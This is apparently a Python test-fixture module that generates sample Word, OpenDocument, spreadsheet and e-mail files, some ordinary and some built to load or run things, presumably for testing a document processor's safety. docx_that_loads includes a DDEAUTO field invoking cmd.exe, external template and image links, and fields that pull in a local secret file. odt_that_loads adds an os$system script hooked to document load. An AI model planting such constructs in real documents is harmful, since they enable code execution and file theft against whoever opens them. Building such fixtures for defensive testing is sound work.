"""Office documents and e-mails: honest ones, and ones that want to load or run something."""

from __future__ import annotations

import zipfile
from collections.abc import Mapping, Sequence
from email.message import EmailMessage
from pathlib import Path

from PIL import Image

from tests.paper.lures import MARKER, PORT, SECRET

TEXT = (
    "ĐƠN ĐỀ NGHỊ",
    "Kính gửi: Ủy ban nhân dân phường Tương Mai",
    "Tôi xin cấp lại giấy khai sinh.",
)
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_RELS = f'<Relationships xmlns="{_PACKAGE}/relationships">'
_DEFAULT = (
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/>'
)
_XML = '<?xml version="1.0" encoding="UTF-8"?>'
_DRAWING = "http://schemas.openxmlformats.org/drawingml/2006"
_BLIP = (
    f'<w:p><w:r><w:drawing><wp:inline xmlns:wp="{_DRAWING}/wordprocessingDrawing"><wp:extent '
    'cx="990000" cy="990000"/><wp:docPr id="1" name="a"/><a:graphic xmlns:a="'
    f'{_DRAWING}/main"><a:graphicData uri="{_DRAWING}/picture"><pic:pic xmlns:pic="'
    f'{_DRAWING}/picture"><pic:nvPicPr><pic:cNvPr id="1" name="a"/><pic:cNvPicPr/></pic:nvPicPr>'
    '<pic:blipFill><a:blip r:link="{}"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData>'
    "</a:graphic></wp:inline></w:drawing></w:r></w:p>"
)
_FIELD = "<w:p><w:fldSimple w:instr=' {} \"{}\" '><w:r><w:t>cũ</w:t></w:r></w:fldSimple></w:p>"
_ODT = "application/vnd.oasis.opendocument.text"


def _save(path: Path, parts: Mapping[str, str], *, first: str = "") -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        if first:
            packed.writestr("mimetype", first, zipfile.ZIP_STORED)
        for name, content in parts.items():
            packed.writestr(name, content)


def _docx(path: Path, body: str, relations: str = "") -> None:
    main = f'<Override PartName="/word/document.xml" ContentType="{_MAIN}"/>'
    types = f'{_XML}<Types xmlns="{_PACKAGE}/content-types">{_DEFAULT}{main}</Types>'
    target = 'Target="word/document.xml"'
    root = f'{_RELS}<Relationship Id="r1" Type="{_R}/officeDocument" {target}/></Relationships>'
    parts = {
        "[Content_Types].xml": types,
        "_rels/.rels": _XML + root,
        "word/_rels/document.xml.rels": f"{_XML}{_RELS}{relations}</Relationships>",
        "word/document.xml": f'{_XML}<w:document xmlns:w="{_W}" xmlns:r="{_R}"><w:body>{body}'
        "</w:body></w:document>",
    }
    _save(path, parts)


def _paragraphs(lines: Sequence[str]) -> str:
    return "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in lines)


def docx(path: Path, lines: Sequence[str] = TEXT) -> None:
    """Write a Word document."""
    _docx(path, _paragraphs(lines))


def docx_that_loads(path: Path) -> None:
    """Pictures at an address and in a file, text from a file, a template at an address."""
    address, secret = f"http://127.0.0.1:{PORT}/anh.png", _secret_beside(path)
    relations = "".join(
        f'<Relationship Id="{key}" Type="{_R}/{kind}" Target="{target}" TargetMode="External"/>'
        for key, kind, target in (
            ("r1", "image", address),
            ("r2", "image", secret.with_suffix(".png").as_uri()),
            ("r3", "attachedTemplate", f"http://127.0.0.1:{PORT}/mau.dotm"),
            ("r4", "subDocument", secret.as_uri()),
        )
    )
    fields = "".join(
        _FIELD.format(code, target)
        for code, target in (
            ("INCLUDETEXT", secret.as_uri()),
            ("INCLUDETEXT", str(secret)),
            ("INCLUDEPICTURE", address),
            ("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe", f"/k touch {MARKER}"),
        )
    )
    body = _paragraphs(TEXT) + _BLIP.format("r1") + _BLIP.format("r2") + fields
    _docx(path, body + '<w:subDoc r:id="r4"/>', relations)


def odt(path: Path, body: str = "", scripts: str = "") -> None:
    """Write an OpenDocument text."""
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in ("office", "text", "draw", "script", "table")
    )
    lines = "".join(f"<text:p>{line}</text:p>" for line in TEXT)
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {spaces} '
        'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:ooo="http://openoffice.org/2004/office" '
        'xmlns:dom="http://www.w3.org/2001/xml-events" office:version="1.2">'
        f"{scripts}<office:body><office:text>{lines}{body}</office:text></office:body>"
        "</office:document-content>"
    )
    entries = "".join(
        f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="{kind}"/>'
        for name, kind in (("/", _ODT), ("content.xml", "text/xml"))
    )
    space = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
    manifest = (
        f'<?xml version="1.0"?><manifest:manifest xmlns:manifest="{space}">{entries}'
        "</manifest:manifest>"
    )
    _save(path, {"content.xml": content, "META-INF/manifest.xml": manifest}, first=_ODT)


def odt_that_loads(path: Path) -> None:
    """A section from a file, pictures at an address and in a file, a macro when it is opened."""
    secret = _secret_beside(path)
    link = 'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"'
    pictures = "".join(
        f'<text:p><draw:frame draw:name="a{n}"><draw:image xlink:href="{target}" {link}/>'
        "</draw:frame></text:p>"
        for n, target in enumerate(
            (f"http://127.0.0.1:{PORT}/anh.png", secret.with_suffix(".png").as_uri())
        )
    )
    section = (
        f'<text:section text:name="s"><text:section-source xlink:href="{secret.as_uri()}" {link}/>'
        "<text:p>cũ</text:p></text:section>"
    )
    run = "vnd.sun.star.script:os$system?language=Python&amp;location=share"
    scripts = (
        "<office:scripts><office:event-listeners><script:event-listener "
        'script:language="ooo:script" script:event-name="dom:load" '
        f'xlink:href="{run}"/></office:event-listeners></office:scripts>'
    )
    odt(path, pictures + section, scripts)


def rtf(path: Path, lines: Sequence[str] = TEXT) -> None:
    """Write a rich text document."""
    text = "".join(
        "".join(f"\\u{ord(char)}?" if ord(char) > 127 else char for char in line) + "\\par\n"
        for line in lines
    )
    font = r"{\fonttbl{\f0 Times New Roman;}}"
    path.write_bytes(f"{{\\rtf1\\ansi\\deff0{font}\\f0\\fs26\n{text}}}".encode("ascii"))


def xlsx(path: Path, lines: Sequence[str] = TEXT) -> None:
    """Write a spreadsheet."""
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{line}</t></is></c></row>'
        for n, line in enumerate(lines, 1)
    )
    overrides = "".join(
        f'<Override PartName="/xl/{name}.xml" ContentType="{_SHEET}.{kind}+xml"/>'
        for name, kind in (("workbook", "sheet.main"), ("worksheets/sheet1", "worksheet"))
    )
    book, sheet = (
        f'{_XML}{_RELS}<Relationship Id="r1" Type="{_R}/{kind}" Target="{target}"/></Relationships>'
        for kind, target in (
            ("officeDocument", "xl/workbook.xml"),
            ("worksheet", "worksheets/sheet1.xml"),
        )
    )
    parts = {
        "[Content_Types].xml": f'{_XML}<Types xmlns="{_PACKAGE}/content-types">{_DEFAULT}'
        f"{overrides}</Types>",
        "_rels/.rels": book,
        "xl/_rels/workbook.xml.rels": sheet,
        "xl/workbook.xml": f'{_XML}<workbook {space} xmlns:r="{_R}"><sheets>'
        '<sheet name="Bảng" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/worksheets/sheet1.xml": f"{_XML}<worksheet {space}><sheetData>{rows}</sheetData>"
        "</worksheet>",
    }
    _save(path, parts)


def pptx(path: Path) -> None:
    """Write the outside of a presentation."""
    _save(path, {"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<p/>"})


def compound(path: Path, *streams: str) -> None:
    """Write what begins like an OLE compound file and names streams, as its directory does."""
    names = b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in streams)
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + names + bytes(4_000))


def mail(path: Path, files: Mapping[str, bytes], *, html: str = "", logo: bytes = b"") -> None:
    """Write an e-mail with files attached.

    Args:
        path: the file.
        files: what is attached, by name.
        html: the text as a web page; plain text when empty.
        logo: a picture within the text.
    """
    message = EmailMessage()
    message["From"] = "Bộ phận Một cửa <mot-cua@example.vn>"
    message["To"] = "Văn thư <van-thu@example.vn>"
    message["Subject"] = "Hồ sơ cấp lại giấy khai sinh"
    message["Date"] = "Mon, 02 Mar 2026 08:00:00 +0700"
    if html:
        message.set_content(html, subtype="html")
    else:
        message.set_content("\n".join(TEXT))
    if logo:
        message.add_related(logo, "image", "png", cid="<logo>")
    for name, data in files.items():
        message.add_attachment(data, "application", "octet-stream", filename=name)
    path.write_bytes(bytes(message))


def _secret_beside(path: Path) -> Path:
    """Write what no document may show, as text and as a picture; return the text's path."""
    folder = path.parent / "ben-canh"
    folder.mkdir(exist_ok=True)
    (folder / "bi-mat.txt").write_text(SECRET, encoding="utf-8")
    Image.new("RGB", (300, 300), "black").save(folder / "bi-mat.png")
    return folder / "bi-mat.txt"
